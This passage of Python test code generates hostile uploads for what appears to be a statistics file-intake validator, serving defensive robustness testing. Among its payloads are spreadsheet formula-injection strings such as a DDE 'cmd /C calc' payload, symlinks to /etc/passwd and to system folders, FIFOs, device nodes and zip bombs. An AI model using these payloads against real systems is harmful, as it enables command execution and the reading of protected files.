            row[1] = 45292  # 2024-01-01 as an Excel serial day
        styles = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                  '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                  '<numFmts count="1"><numFmt numFmtId="164" formatCode="yyyy\\-mm"/></numFmts>'
                  '<fonts count="1"><font/></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
                  '<borders count="1"><border/></borders>'
                  '<cellStyleXfs count="1"><xf/></cellStyleXfs>'
                  '<cellXfs count="2"><xf/><xf numFmtId="164" applyNumberFormat="1"/></cellXfs>'
                  '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>')
        body = [sheet_row(1, HEADER)] + [sheet_row(i + 2, row).replace(f'<c r="B{i + 2}">', f'<c r="B{i + 2}" s="1">')
                                          for i, row in enumerate(rows)]
        sheet = (_SHEET_HEAD + "".join(body) + _SHEET_TAIL).encode()
        data = xlsx_bytes(HEADER, [], sheet_xml=sheet, styles=styles.encode())
        self.in_country("xlsx_date_period", f"fechas_{self.token()}.xlsx", data, None, country,
                        note="period typed as a date cell formatted yyyy-mm")

    def k_nfc_nfd_pair(self) -> None:
        # Two names that differ only in Unicode normalisation (a Mac and a Windows upload of "Año").
        country = self.country()
        token = self.token()
        for form in ("NFC", "NFD"):
            self.in_country("nfc_nfd_pair", unicodedata.normalize(form, f"Año_{token}.csv"), self.valid_csv(country),
                            "accepted", country, note=form)

    def k_hardlink_outside(self) -> None:
        country = self.country()
        data = self.valid_csv(country)
        target = self.outside_file(f"hardlink_source_{self.token()}.csv", data)
        relative = f"{country}/hardlink_{self.token()}.csv"
        path = self.inbox / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        try:
            os.link(target, path)
        except OSError:
            path.write_bytes(data)
        self._touch(path)
        self.manifest.items.append(Item("hardlink_outside", relative, "file", True, country, "accepted",
                                        hashlib.sha256(data).hexdigest(), len(data),
                                        note=f"a hard link to {target}"))

    # -- kinds: never read
    def _link(self, kind: str, relative: str, target: str | Path, note: str = "") -> None:
        path = self.inbox / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, path)
        self._touch(path)
        self.refused(kind, relative, "link", note or f"-> {target}").target = str(target)

    def k_symlink_passwd(self) -> None:
        self._link("symlink_passwd", f"{self.country()}/passwd_{self.token()}.csv", "/etc/passwd")
        with contextlib.suppress(OSError):
            self.manifest.outside["/etc/passwd"] = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()

    def k_symlink_dir(self) -> None:
        target = self.rng.choice(["/etc", "/", "..", "../.."])
        self._link("symlink_dir", f"{self.country()}/carpeta_{self.token()}", target)

    def k_symlink_outside_file(self) -> None:
        target = self.outside_file(f"secret_{self.token()}.csv", self.valid_csv("PAN"))
        self._link("symlink_outside_file", f"{self.country()}/secret_{self.token()}.csv", target)

    def k_symlink_other_country_file(self) -> None:
        # A link in one country's folder to a valid file of another: the link is refused, the file read.
        source_country = self.country()
        source = self.in_country("valid", f"valid_linked_{self.token()}.csv", self.valid_csv(source_country),
                                 "accepted", source_country)
        country = self.rng.choice([c for c in FILE_COUNTRIES if c != source_country])
        target = self.rng.choice([f"../{source.path}", str(self.inbox / source.path)])
        self._link("symlink_other_country_file", f"{country}/link_{self.token()}.csv", target)

    def k_symlink_other_country_folder(self) -> None:
        free = [c for c in LINK_COUNTRIES if not os.path.lexists(self.inbox / c)]
        target_country = self.country()
        (self.inbox / target_country).mkdir(parents=True, exist_ok=True)
        if free and self.rng.random() < 0.5:
            self._link("symlink_other_country_folder", free[0], target_country,
                       note=f"a member-named folder that is a link to {target_country}/")
        else:
            country = self.rng.choice([c for c in FILE_COUNTRIES if c != target_country])
            self._link("symlink_other_country_folder", f"{country}/to_{target_country}_{self.token()}",
                       f"../{target_country}")

    def k_symlink_dangling(self) -> None:
        self._link("symlink_dangling", f"{self.country()}/dangling_{self.token()}.csv", f"/nonexistent/{self.token()}")

    def k_symlink_loop(self) -> None:
        name = f"loop_{self.token()}.csv"
        self._link("symlink_loop", f"{self.country()}/{name}", name)

    def k_fifo(self) -> None:
        relative = f"{self.country()}/pipe_{self.token()}.csv"
        path = self.inbox / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path)
        self._touch(path)
        self.refused("fifo", relative, "fifo")

    def k_device(self) -> None:
        relative = f"{self.country()}/device_{self.token()}.csv"
        path = self.inbox / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if self.device_ok is not False:
            try:  # a copy of /dev/null: a reader that opens it gets an empty file, not a hang
                os.mknod(path, stat.S_IFCHR | 0o644, os.makedev(1, 3))
                self.device_ok = True
                self._touch(path)
                self.refused("device", relative, "device", "character device 1,3")
                return
            except (OSError, PermissionError):
                self.device_ok = False
        # No CAP_MKNOD: a UNIX socket is the other thing that is neither file nor folder.
        with contextlib.suppress(OSError):
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                sock.bind(str(path))
            finally:
                sock.close()
            self._touch(path)
            self.refused("device", relative, "socket", "a UNIX socket (no permission to make a device node)")
            return
        self.k_fifo()

    def k_lock_file(self) -> None:
        country = self.country()
        suffix = self.rng.choice([".xlsx", ".csv"])
        self.file("lock_file", f"{country}/~$valid_{self.token()}{suffix}", b"\x0bstatistician" + b"\x00" * 150,
                  read=False, note="Office owner file")

    def k_partial_upload(self) -> None:
        country = self.country()
        suffix = self.rng.choice([".part", ".partial", ".tmp", ".crdownload", ".PART"])
        self.file("partial_upload", f"{country}/upload_{self.token()}.csv{suffix}", self.valid_csv(country)[:40],
                  read=False)

    def k_hidden(self) -> None:
        country = self.country()
        name = self.rng.choice([f".hidden_{self.token()}.csv", f"..{self.token()}.csv", f".~lock.{self.token()}.csv#"])
        self.file("hidden", f"{country}/{name}", self.valid_csv(country), read=False)

    def k_undecodable_refused(self) -> None:
        country = self.country()
        name = os.fsdecode(b".oculto_\xff\xfe_" + self.token().encode() + b".csv")
        self.file("undecodable_refused", f"{country}/{name}", b"x", read=False, note="hidden, name not UTF-8")

    def k_dir_named_csv(self) -> None:
        country = self.country()
        relative = f"{country}/carpeta_{self.token()}.csv"
        (self.inbox / relative).mkdir(parents=True)
        if self.rng.random() < 0.5:
            self._touch(self.inbox / relative)
            self.refused("dir_named_csv", relative, "folder", "empty")
        else:
            self.file("dir_named_csv", f"{relative}/dentro.csv", self.valid_csv(country), read=False,
                      note="a file inside a folder named .csv")

    def k_subfolder(self) -> None:
        country = self.country()
        self.file("subfolder", f"{country}/2024/enero/{self.token()}.csv", self.valid_csv(country), read=False)

    def k_non_member_folder(self) -> None:
        folder = self.rng.choice(["ZZZ", "ESP", "XXA", "zzz", "PA", "PANA", "_T", "123"])
        self.file("non_member_folder", f"{folder}/{self.token()}.csv", self.valid_csv("PAN"), read=False,
                  note=f"{folder}/ is not a member")

    def k_top_level(self) -> None:
        self.file("top_level", f"suelto_{self.token()}.csv", self.valid_csv("PAN"), read=False)

    def k_deep_nesting(self) -> None:
        folder = "ZZZ/" + "/".join(f"n{i}" for i in range(self.rng.randint(3, 9)))
        self.file("deep_nesting", f"{folder}/{self.token()}.csv", self.valid_csv("PAN"), read=False)


# kind -> weight in a random draw (every kind is also written once, in this order, first)
KINDS: dict[str, float] = {
    "valid": 12, "valid_es_latin1": 2, "valid_bom_tab": 2, "valid_pipe": 1, "valid_xlsx": 2, "many_rows": 0.3,
    "long_name": 2, "odd_name": 5, "undecodable_name": 1,
    "empty_flow_type": 2, "empty_reporting_country": 2, "dup_header_count": 2, "dup_header_cantidad": 2,
    "formula_hyperlink": 2, "formula_cmd": 2, "formula_at": 2, "formula_plus": 2, "formula_plus_count": 1,
    "wrong_country_in_file": 1, "copy_other_country": 1, "future_period": 1,
    "truncated": 2, "truncated_xlsx": 1, "random_bytes": 2, "nul_bytes": 2, "utf16": 1, "mixed_encoding": 2,
    "long_line": 0.15, "wide_extra": 0.3, "wide_junk": 0.3, "bom_midfile": 1,
    "zip_bomb_rows": 0.15, "zip_bomb_string": 0.15, "broken_xlsx": 2, "xlsx_formula": 1, "xlsx_formula_uncached": 1,
    "xlsx_as_csv": 1, "csv_as_xlsx": 1, "binary_as_csv": 1, "empty_file": 1, "header_only": 1,
    "unbalanced_quotes": 1, "cr_only": 1, "excel_sep_hint": 1, "xlsx_date_period": 1, "nfc_nfd_pair": 0.5,
    "duplicate": 4, "hardlink_outside": 0.5,
    "symlink_passwd": 1, "symlink_dir": 1, "symlink_outside_file": 1, "symlink_other_country_file": 1,
    "symlink_other_country_folder": 1, "symlink_dangling": 1, "symlink_loop": 0.5, "fifo": 1, "device": 1,
    "lock_file": 2, "partial_upload": 2, "hidden": 2, "undecodable_refused": 0.5, "dir_named_csv": 1,
    "subfolder": 1, "non_member_folder": 2, "top_level": 1, "deep_nesting": 0.5,
}
HEAVY = {"long_line", "wide_extra", "wide_junk", "zip_bomb_rows", "zip_bomb_string", "many_rows"}


def write_hostile(inbox: Path, n: int, seed: int = 0, *, scale: Scale | None = None,
                  kinds: Iterable[str] | None = None, outside: Path | None = None,
                  controls: int = 1) -> Manifest:
    """Write about `n` hostile items into `inbox` (a few kinds add a companion item).

    Every kind in `kinds` (default: all of KINDS) is written once before any is
    repeated, so n >= len(kinds) covers them all; `controls` valid files are
    written first so that the batch always holds files that must be accepted.
    Links point at files under `outside` (default: <inbox>/../outside) or
    at system paths that are only ever read.
    """
    writer = _Writer(inbox, seed, scale or Scale(), outside)
    inbox.mkdir(parents=True, exist_ok=True)
    chosen = list(kinds) if kinds is not None else list(KINDS)
    unknown = set(chosen) - set(KINDS)
    if unknown:
        raise ValueError(f"unknown kinds: {sorted(unknown)}")
    weights = [KINDS[k] for k in chosen]
    order = ["valid"] * controls + chosen
    while len(order) < n:
        order.append(writer.rng.choices(chosen, weights)[0])
    for kind in order[: max(n, controls)]:
        getattr(writer, f"k_{kind}")()
        writer.position += 1
    return writer.manifest


# --------------------------------------------------------------------------- hypothesis strategies


def strategies():  # noqa: ANN201 - a namespace of strategies, built when hypothesis is there
    """Hypothesis strategies for hostile CSV content, as a namespace:

    - `cell`: text of one cell: codes, numbers, formula starts, quotes,
      delimiters, line breaks, BOMs, NULs, unicode, long runs, whitespace;
    - `header_name`: a column name: standard names and Spanish aliases in odd
      case, accents and spacing, or junk;
    - `header`: a header row (may miss, repeat or add columns);
    - `table`: (header, rows, delimiter, encoding, newline) of a well-formed
      file: every cell quoted where needed, the text encodable;
    - `raw_file`: bytes of a file that may be anything at all;
    - `mutated_valid`: (header, rows, expected rule id or None) — a valid file
      with at most one defect whose rule the standard names.
    """
    from types import SimpleNamespace

    from hypothesis import strategies as st

    fragments = st.sampled_from([
        "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", '"', '""', "'", ",", ";", "|", "\ufeff", "\x00", "\x1a",
        "=HYPERLINK(\"http://x\",\"y\")", "=cmd|' /C calc'!A0", "@SUM(A1)", "+1", "-1", "_T", "_U", "NULL", "null",
        "N/A", "1e3", "1,000", "0x10", "١٢", "Ω", "é", "\u0301", "\u202e", "😀", " ", "  ", "\\", "%s", "{}",
    ])
    codes = st.sampled_from(MEMBERS + NATIONALITIES + FLOWS + SEXES + AGES + ["2024-01", "2024-13", "0", "10", "A"])
    free_text = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12)
    cell = st.one_of(
        codes, free_text,
        st.lists(st.one_of(fragments, codes, free_text), max_size=4).map("".join),
        st.builds(lambda ch, k: ch * k, st.sampled_from(["x", "é", '"', ",", " "]), st.integers(100, 3000)),
    )
    name_variants = st.sampled_from(HEADER + HEADER_ES).flatmap(lambda name: st.sampled_from([
        name, name.upper(), name.title(), name.replace("_", " "), f"  {name} ", name.replace("a", "á", 1),
        name.replace("_", "-"), "\ufeff" + name,
    ]))
    junk_name = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc"), exclude_characters=",;|\t\"\r\n"),
                        max_size=10)
    header_name = st.one_of(name_variants, junk_name)
    header = st.lists(header_name, min_size=1, max_size=14)

    legacy_letters = "áéíóúñÑüÁÉÍÓÚÀÇçÿ"

    def _safe_cells(encoding: str):  # noqa: ANN202
        if encoding.startswith("utf-8"):
            return cell.filter(lambda c: "\x00" not in c)
        # Only letters in 0xC0-0xFF besides ASCII: a legacy file is never also valid UTF-8.
        return st.text(st.sampled_from(list(" _-=+@'\",;|\t\r\nAZaz09T") + list(legacy_letters)), max_size=12)

    @st.composite
    def table(draw):  # noqa: ANN001, ANN202
        encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "latin-1"]))
        delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
        newline = draw(st.sampled_from(["\r\n", "\n"]))
        names = draw(st.lists(
            st.one_of(st.sampled_from(HEADER), name_variants,
                      st.text(st.sampled_from(list("abcxyz_ ") + list(legacy_letters)), min_size=1, max_size=8)),
            min_size=2, max_size=13,
        ).filter(lambda ns: all(n.strip().strip("\ufeff") for n in ns)))
        if encoding not in ("utf-8", "utf-8-sig"):
            names = [n.replace("\ufeff", "") or "x" for n in names]
        values = _safe_cells(encoding)
        rows = draw(st.lists(st.lists(values, min_size=len(names), max_size=len(names))
                             .filter(lambda r: any(c != "" for c in r)), min_size=1, max_size=6))
        return names, rows, delimiter, encoding, newline

    @st.composite
    def raw_file(draw):  # noqa: ANN001, ANN202
        parts = draw(st.lists(st.one_of(
            st.binary(max_size=200),
            st.just(",".join(HEADER).encode() + b"\r\n"),
            cell.map(lambda c: c.encode("utf-8", "surrogatepass")),
            st.sampled_from([b"PK\x03\x04", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, b"\x00", b"\xff", b"\r", b"\n",
                             b'"', b",", b";"]),
        ), max_size=12))
        return b"".join(parts)

    defects = st.sampled_from([
        None, ("flow_type", "", "R02"), ("reporting_country", "", "R02"), ("sex", "", "R02"),
        ("age", "Y0T5", "R02"), ("nationality", "Narnia", "R02"),
        ("border_point", "=HYPERLINK(\"http://x\",\"y\")", "R02"), ("border_point", "@SUM(A1)", "R02"),
        ("border_point", "+1", "R02"), ("border_point", "-1", "R02"), ("border_point", "\t=1", "R02"),
        ("count", "-5", "R03"), ("count", "1.5", "R03"), ("count", "=1+1", "R03"), ("count", "diez", "R03"),
        ("count", "", "R03"), ("period", "2024-13", "R01"), ("period", "2999-01", "R01"), ("period", "", "R01"),
        ("reporting_country", "XXX", "S03"), ("header", "count", "S02"), ("header", "cantidad", "S02"),
        ("drop", "nationality", "S02"), ("duplicate_row", None, "R04"),
    ])

    @st.composite
    def mutated_valid(draw, country: str = "PAN"):  # noqa: ANN001, ANN202
        seed = draw(st.integers(0, 2**32 - 1))
        rows = valid_rows(random.Random(seed), country, n=draw(st.integers(1, 6)))
        header = list(HEADER)
        defect = draw(defects)
        if defect is None:
            return header, rows, None
        column, value, rule = defect
        if column == "header":
            header.append(value)
            rows = [row + [row[8]] for row in rows]
        elif column == "drop":
            index = header.index(value)
            header.pop(index)
            rows = [row[:index] + row[index + 1:] for row in rows]
        elif column == "duplicate_row":
            rows.append(list(rows[draw(st.integers(0, len(rows) - 1))]))
        else:
            rows[draw(st.integers(0, len(rows) - 1))][HEADER.index(column)] = value
        return header, rows, rule

    return SimpleNamespace(cell=cell, header_name=header_name, header=header, table=table(),
                           raw_file=raw_file(), mutated_valid=mutated_valid)
